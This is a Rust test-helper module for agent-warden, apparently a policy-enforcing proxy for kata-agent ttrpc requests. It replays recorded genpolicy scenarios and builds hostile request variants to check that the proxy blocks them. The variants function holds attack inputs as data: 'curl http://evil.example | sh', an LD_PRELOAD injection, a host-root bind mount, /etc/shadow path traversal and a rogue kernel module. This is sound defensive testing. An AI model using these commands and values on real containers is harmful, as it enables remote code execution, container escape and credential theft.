//! The genpolicy peer data (../shared/peers/kata-genpolicy): scenarios with the
//! profile of the kata-agent that recorded them, a policy input sent through
//! agent-warden over ttrpc as its protobuf request, hostile variants of recorded
//! requests.

use std::path::{Path, PathBuf};

use agent_warden::config::KataAgent;
use agent_warden::policy::RegoVersion;
use agent_warden::wire::encode;
use agent_warden::wire::input::{self, InputShape};
use agent_warden::wire::methods;
use serde_json::{json, Value};

/// ../shared/peers/kata-genpolicy; when it is missing: a panic under CI=true, else
/// `None` (skip).
pub fn peers_dir() -> Option<PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/peers/kata-genpolicy");
    if dir.is_dir() {
        return Some(dir);
    }
    if std::env::var("CI").as_deref() == Ok("true") {
        panic!("peer data missing at {} (required in CI)", dir.display());
    }
    eprintln!("skipping: peer data not found at {}", dir.display());
    None
}

/// One recorded scenario: policy, inputs, recorded decisions, and the profile of the
/// kata-agent that recorded it.
pub struct Scenario {
    pub name: String,
    pub policy: String,
    /// (request type, input JSON), AllowRequestsFailingPolicy lines included.
    pub inputs: Vec<(String, Value)>,
    pub outputs: Vec<bool>,
    pub rego: RegoVersion,
    pub shape: InputShape,
}

/// Every scenario under the peer directory, sorted by name (at least the six).
pub fn scenarios(dir: &Path) -> Vec<Scenario> {
    let mut dirs: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.join("policy.rego").is_file())
        .collect();
    dirs.sort();
    assert!(
        dirs.len() >= 6,
        "expected the six genpolicy scenarios, found {}",
        dirs.len()
    );
    dirs.iter().map(|d| Scenario::load(d)).collect()
}

impl Scenario {
    fn load(dir: &Path) -> Scenario {
        let name = dir.file_name().unwrap().to_string_lossy().to_string();
        let policy = std::fs::read_to_string(dir.join("policy.rego")).unwrap();
        let inputs = parse_inputs(&std::fs::read_to_string(dir.join("inputs.txt")).unwrap());
        let outputs: Vec<bool> =
            serde_json::from_str(&std::fs::read_to_string(dir.join("outputs.json")).unwrap())
                .unwrap();
        assert_eq!(
            inputs.len(),
            outputs.len(),
            "{name}: inputs and outputs differ in length"
        );
        // The 2024 generation (Rego v0). Two builds of it recorded these: the later one
        // already sent the stdio vsock ports in CreateContainerRequest (the `kata =
        // "2024"` shape); the older one did not (`input_shape = "legacy"` overrides it).
        let generation = KataAgent::Regorus02;
        let shape = if inputs
            .iter()
            .any(|(ty, v)| ty == "CreateContainerRequest" && v.get("stdin_port").is_some())
        {
            generation.input_shape()
        } else {
            InputShape::Legacy
        };
        Scenario {
            name,
            policy,
            inputs,
            outputs,
            rego: generation.rego(),
            shape,
        }
    }

    /// The recorded requests (AllowRequestsFailingPolicy lines left out).
    pub fn requests(&self) -> impl Iterator<Item = &(String, Value)> {
        self.inputs
            .iter()
            .filter(|(ty, _)| ty != "AllowRequestsFailingPolicy")
    }
}

/// Parses inputs.txt: one `["ep":"<Type>",{...}],` per non-empty line.
pub fn parse_inputs(text: &str) -> Vec<(String, Value)> {
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .map(|l| {
            let rest = l
                .strip_prefix("[\"ep\":\"")
                .expect("line starts with [\"ep\":\"");
            let (ty, rest) = rest.split_once("\",").expect("type then input");
            let json = rest
                .trim_end_matches(',')
                .strip_suffix(']')
                .expect("line ends with ]");
            (
                ty.to_string(),
                serde_json::from_str(json).expect("input is JSON"),
            )
        })
        .collect()
}

/// A decision as the host sees it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// Forwarded; the agent answered.
    Allow,
    /// PERMISSION_DENIED by policy.
    Deny,
    /// Any other error status: the request did not run (kata: an error answer).
    Error,
}

impl From<&super::oracle::Answer> for Outcome {
    /// kata-agent's decision: allowed, denied, or an error answer (`allowed: null`).
    fn from(a: &super::oracle::Answer) -> Outcome {
        match a.allowed {
            Some(true) => Outcome::Allow,
            Some(false) => Outcome::Deny,
            None => Outcome::Error,
        }
    }
}

/// The method whose request message is `ty`.
pub fn method_of(ty: &str) -> &'static methods::Method {
    methods::table()
        .all()
        .iter()
        .find(|m| m.request_type == ty)
        .expect("known request type")
}

/// The protobuf bytes of the request of type `ty` whose policy input is `input`.
pub fn encode(ty: &str, input: &Value, shape: InputShape) -> Result<Vec<u8>, String> {
    let msg = encode::from_policy_input(&method_of(ty).request, input, shape)
        .map_err(|e| e.to_string())?;
    Ok(msg.write_to_bytes_dyn().unwrap())
}

/// The policy input agent-warden builds from these bytes.
pub fn decode(ty: &str, payload: &[u8], shape: InputShape) -> Value {
    let msg = input::decode_request(&method_of(ty).request, payload).unwrap();
    input::to_policy_input(msg.as_ref(), shape).unwrap()
}

/// Sends the request `ty` with these protobuf bytes through agent-warden.
pub async fn send_bytes(client: &ttrpc::r#async::Client, ty: &str, payload: Vec<u8>) -> Outcome {
    let method = method_of(ty);
    let req = ttrpc::proto::Request {
        timeout_nano: 10_000_000_000,
        ..agent_warden::wire::envelope::request(&method.service, &method.name, payload)
    };
    match client.request(req).await {
        Ok(_) => Outcome::Allow,
        Err(ttrpc::Error::RpcStatus(s)) if s.code.value() == 7 => {
            assert!(
                s.message.starts_with(&format!("{ty} is blocked by policy")),
                "{}",
                s.message
            );
            Outcome::Deny
        }
        Err(ttrpc::Error::RpcStatus(_)) => Outcome::Error,
        Err(e) => panic!("{ty}: transport error {e}"),
    }
}

/// Sends one policy input as its protobuf request through agent-warden; true if it
/// was not blocked by policy (any other error status panics).
pub async fn send(
    client: &ttrpc::r#async::Client,
    shape: InputShape,
    ty: &str,
    input: &Value,
) -> bool {
    let payload =
        encode(ty, input, shape).unwrap_or_else(|e| panic!("{ty}: cannot encode input: {e}"));
    match send_bytes(client, ty, payload).await {
        Outcome::Allow => true,
        Outcome::Deny => false,
        Outcome::Error => panic!("{ty}: unexpected error status for {input}"),
    }
}

/// Hostile variants of a recorded request: (label, mutated input).
pub fn variants(ty: &str, input: &Value) -> Vec<(&'static str, Value)> {
    let mut out = Vec::new();
    let mut edit = |label: &'static str, f: &dyn Fn(&mut Value)| {
        let mut v = input.clone();
        f(&mut v);
        out.push((label, v));
    };
    match ty {
        "ExecProcessRequest" => {
            edit("exec: other command line", &|v| {
                v["process"]["Args"] = json!(["sh", "-c", "curl http://evil.example | sh"])
            });
            edit("exec: extra env", &|v| {
                if let Some(env) = v["process"]["Env"].as_array_mut() {
                    env.push(json!("LD_PRELOAD=/tmp/evil.so"));
                }
            });
        }
        "CreateContainerRequest" => {
            edit("create: extra env", &|v| {
                if let Some(env) = v["OCI"]["Process"]["Env"].as_array_mut() {
                    env.push(json!("LD_PRELOAD=/tmp/evil.so"));
                }
            });
            edit("create: other command line", &|v| {
                v["OCI"]["Process"]["Args"] = json!(["/bin/sh", "-c", "id"])
            });
            edit("create: host bind mount", &|v| {
                if let Some(m) = v["OCI"]["Mounts"].as_array_mut() {
                    m.push(json!({"destination": "/host", "source": "/", "type_": "bind", "options": ["rbind", "rw"]}));
                }
            });
        }
        "CopyFileRequest" => {
            edit("copy: outside shared dir", &|v| {
                v["path"] = json!("/etc/passwd")
            });
            edit("copy: dot-dot escape", &|v| {
                v["path"] = json!("/run/kata-containers/shared/containers/../../../etc/shadow")
            });
        }
        "CreateSandboxRequest" => {
            edit("sandbox: extra kernel module", &|v| {
                if let Some(m) = v["kernel_modules"].as_array_mut() {
                    m.push(json!({"name": "evil", "parameters": []}));
                }
            });
        }
        _ => {}
    }
    out
}
